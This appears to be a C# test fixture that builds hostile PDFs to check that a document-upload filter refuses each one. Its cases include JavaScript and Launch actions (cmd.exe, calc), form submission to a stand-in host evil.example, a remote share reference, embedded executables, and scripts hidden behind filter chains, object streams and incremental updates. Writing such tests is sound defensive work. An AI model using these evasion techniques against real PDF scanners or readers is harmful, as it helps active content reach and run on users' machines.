using System.Text;
using static WoningPas.Api.Tests.Documents.PdfCorpus.PdfFilters;

namespace WoningPas.Api.Tests.Documents.PdfCorpus;

/// <summary>
/// PDFs that act on the reader's machine, each named after the way it hides or triggers it. Every one must be refused.
/// Built at test time with <see cref="PdfBuilder"/> so that each case shows exactly what it sends.
/// </summary>
internal static class HostilePdfs
{
    private const string Script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

    /// <summary>Page, catalog and an object stream that holds the catalog's open action, object 4.</summary>
    private static PdfBuilder InObjectStream(string filterEntries, Func<byte[], byte[]> encode, string action = Script,
        string? streamKeywordEnd = null) =>
        PdfBuilder.Minimal("/OpenAction 4 0 R", streamKeywordEnd)
            .Compressed(4, action)
            .ObjectStreamEncoding(filterEntries, encode);

    private static byte[] Latin1(string text) => Encoding.Latin1.GetBytes(text);

    public static IReadOnlyDictionary<string, Func<byte[]>> All { get; } = new Dictionary<string, Func<byte[]>>(StringComparer.Ordinal)
    {
        // Actions in plain sight, one per refused kind.
        ["open-action-javascript"] = () => PdfBuilder.Minimal($"/OpenAction {Script}").Build(),
        ["open-action-javascript-hex-escaped-names"] = () =>
            PdfBuilder.Minimal("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>").Build(),
        ["open-action-javascript-fully-hex-escaped-names"] = () =>
            PdfBuilder.Minimal("/OpenAction << /S/#4A#61#76#61#53#63#72#69#70#74/#4a#53(x) >>").Build(),
        ["open-action-javascript-as-indirect-stream"] = () => PdfBuilder.Minimal("/OpenAction << /S /JavaScript /JS 4 0 R >>")
            .Stream(4, "/Filter /FlateDecode", Flate("app.alert(1)")).Build(),
        ["open-action-launch"] = () => PdfBuilder.Minimal("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>").Build(),
        ["open-action-gotor"] = () => PdfBuilder.Minimal("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>").Build(),
        ["open-action-gotoe"] = () => PdfBuilder.Minimal("/OpenAction << /S /GoToE /T << /R /C /N (payload) >> >>").Build(),
        ["open-action-submitform"] = () => PdfBuilder.Minimal("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>").Build(),
        ["open-action-importdata"] = () => PdfBuilder.Minimal("/OpenAction << /S /ImportData /F (data.fdf) >>").Build(),
        ["open-action-goto-then-launch-in-next"] = () =>
            PdfBuilder.Minimal("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>").Build(),
        ["open-action-rendition-with-js"] = () => PdfBuilder.Minimal("/OpenAction << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>").Build(),

        // Triggers elsewhere in the document.
        ["aa-on-page"] = () => new PdfBuilder()
            .Object(1, "<< /Type /Catalog /Pages 2 0 R >>")
            .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
            .Object(3, $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O {Script} >> >>").Build(),
        ["aa-on-catalog-will-close"] = () => PdfBuilder.Minimal("/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>").Build(),
        ["widget-aa-keystroke-javascript"] = () => PdfBuilder.Minimal("/AcroForm << /Fields [4 0 R] >>")
            .Object(4, $"<< /Type /Annot /Subtype /Widget /FT /Tx /T (naam) /Rect [0 0 50 20] /AA << /K {Script} >> >>").Build(),
        ["link-annotation-javascript"] = () => new PdfBuilder()
            .Object(1, "<< /Type /Catalog /Pages 2 0 R >>")
            .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
            .Object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>")
            .Object(4, $"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A {Script} >>").Build(),
        ["outline-item-javascript"] = () => PdfBuilder.Minimal("/Outlines 4 0 R")
            .Object(4, "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>")
            .Object(5, $"<< /Title (Factuur) /Parent 4 0 R /A {Script} >>").Build(),
        ["javascript-name-tree"] = () => PdfBuilder.Minimal("/Names << /JavaScript << /Names [(init) 4 0 R] >> >>")
            .Object(4, Script).Build(),
        ["embedded-files-name-tree"] = () => PdfBuilder.Minimal("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>")
            .Object(4, "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>")
            .Stream(5, "/Type /EmbeddedFile", Latin1("MZ not really")).Build(),
        ["file-attachment-annotation"] = () => new PdfBuilder()
            .Object(1, "<< /Type /Catalog /Pages 2 0 R >>")
            .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
            .Object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>")
            .Object(4, "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (x.js) /EF << /F 5 0 R >> >> >>")
            .Stream(5, "/Type /EmbeddedFile /Filter /FlateDecode", Flate("payload")).Build(),
        ["rich-media-annotation"] = () => new PdfBuilder()
            .Object(1, "<< /Type /Catalog /Pages 2 0 R >>")
            .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
            .Object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>")
            .Object(4, "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>").Build(),
        ["xfa-in-acroform"] = () => PdfBuilder.Minimal("/AcroForm << /Fields [] /XFA 4 0 R >>")
            .Stream(4, "/Filter /FlateDecode", Flate("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>")).Build(),
        ["submitform-widget"] = () => PdfBuilder.Minimal("/AcroForm << /Fields [4 0 R] >>")
            .Object(4, "<< /Type /Annot /Subtype /Widget /FT /Btn /T (ok) /Rect [0 0 50 20] /A << /S /SubmitForm /F (https://evil.example/) >> >>").Build(),

        // JavaScript hidden in an object stream behind every filter and chain a reader decodes.
        ["javascript-in-object-stream-flate"] = () => InObjectStream("/Filter /FlateDecode", Flate).Build(),
        ["javascript-in-object-stream-flate-twice"] = () =>
            InObjectStream("/Filter [/FlateDecode /FlateDecode]", data => Flate(Flate(data))).Build(),
        ["javascript-in-object-stream-flate-png-predictor"] = () => InObjectStream(
            "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>", data => FlatePng(data, 7)).Build(),
        ["javascript-in-object-stream-flate-tiff-predictor"] = () => InObjectStream(
            "/Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 5 /Colors 1 /BitsPerComponent 8 >>",
            data => FlateTiff(data, 5)).Build(),
        ["javascript-in-object-stream-ascii85-then-flate"] = () =>
            InObjectStream("/Filter [/ASCII85Decode /FlateDecode]", data => Ascii85(Flate(data))).Build(),
        ["javascript-in-object-stream-asciihex-then-flate"] = () =>
            InObjectStream("/Filter [/ASCIIHexDecode /FlateDecode]", data => AsciiHex(Flate(data))).Build(),
        ["javascript-in-object-stream-lzw"] = () => InObjectStream("/Filter /LZWDecode", Lzw).Build(),
        ["javascript-in-object-stream-ascii85-then-lzw"] = () =>
            InObjectStream("/Filter [/ASCII85Decode /LZWDecode]", data => Ascii85(Lzw(data))).Build(),
        ["javascript-in-object-stream-runlength"] = () => InObjectStream("/Filter /RunLengthDecode", RunLength).Build(),
        ["javascript-in-object-stream-asciihex-only"] = () => InObjectStream("/Filter /ASCIIHexDecode", AsciiHex).Build(),
        ["javascript-in-object-stream-that-claims-to-be-an-image"] = () =>
            InObjectStream("/Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /Filter /FlateDecode", Flate).Build(),
        ["hex-escaped-names-in-ascii85-flate-object-stream"] = () => InObjectStream("/Filter [/ASCII85Decode /FlateDecode]",
            data => Ascii85(Flate(data)), "<< /S /J#61vaScript /J#53 (x) >>").Build(),
        ["launch-in-lzw-object-stream"] = () => InObjectStream("/Filter /LZWDecode", Lzw,
            "<< /S /Launch /F (cmd.exe) >>").Build(),
        ["xfa-in-object-stream"] = () => PdfBuilder.Minimal("/AcroForm 4 0 R")
            .Compressed(4, "<< /Fields [] /XFA [(template) 5 0 R] >>")
            .Stream(5, "", Latin1("<template/>"))
            .ObjectStreamEncoding("/Filter [/ASCIIHexDecode /FlateDecode]", data => AsciiHex(Flate(data))).Build(),

        // Lenient syntax after the stream keyword: readers accept it, so the inspection must read through it too.
        ["object-stream-after-stream-cr"] = () => InObjectStream("/Filter /FlateDecode", Flate, streamKeywordEnd: "\r").Build(),
        ["object-stream-after-stream-space-lf"] = () => InObjectStream("/Filter /FlateDecode", Flate, streamKeywordEnd: " \n").Build(),
        ["object-stream-after-stream-space-crlf"] = () => InObjectStream("/Filter [/ASCII85Decode /FlateDecode]",
            data => Ascii85(Flate(data)), streamKeywordEnd: " \r\n").Build(),

        // Incremental updates: a clean file, then an update that adds the action.
        ["incremental-update-adding-open-action"] = () => PdfBuilder.Update(PdfBuilder.Minimal().Build(), 5,
            (1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"), (4, Script)),
        ["incremental-update-adding-page-aa-over-object-streams"] = () => PdfBuilder.Update(
            InObjectStream("/Filter /FlateDecode", Flate, "<< /S /GoTo /D [3 0 R /Fit] >>").Build(), 8,
            (3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 7 0 R >> >>"),
            (7, "<< /S /JavaScript /JS (app.alert\\(2\\)) >>")),
    };
}
